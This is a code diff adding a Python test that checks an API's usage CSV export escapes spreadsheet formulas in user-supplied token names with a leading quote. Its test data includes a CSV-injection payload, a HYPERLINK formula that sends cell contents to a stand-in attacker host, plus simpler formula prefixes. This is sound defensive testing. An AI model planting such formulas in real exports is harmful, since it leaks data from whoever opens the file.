@@ -407,3 +407,22 @@ async def test_a_window_spans_at_most_366_days(world: World) -> None:
             detail = assert_envelope(answer, 422, "validation_error")
             assert detail["details"][0]["loc"] == ["query", "from"]
             assert "at most 366 days" in detail["message"]
+
+
+async def test_the_csv_never_hands_a_spreadsheet_a_formula(world: World) -> None:
+    """Token names are the caller's own text: one that a spreadsheet would run as a
+    formula is written with a leading single quote (OWASP); the JSON keeps it as is."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    for name in names:
+        made = await world.client.post("/v1/users/tokens", json={"name": name}, headers=world.bob)
+        assert made.status_code == 201, made.text
+        token = {"Authorization": f"Bearer {made.json()['token']}"}
+        answer = await generate(world.client, token, model=MINI, input={"prompt": "hi"})
+        assert answer.status_code == 200, answer.text
+    params = {"group_by": "token", "from": datetime.now(UTC).date().isoformat()}
+    body = await report(world.client, world.bob, **params)
+    assert {row["name"] for row in body["rows"]} == {*names, "sdk", None}
+    answer = await world.client.get("/v1/usage.csv", params=params, headers=world.bob)
+    assert answer.status_code == 200, answer.text
+    written = {line[1] for line in list(csv.reader(io.StringIO(answer.text)))[1:]}
+    assert written == {*("'" + name for name in names), "sdk", ""}
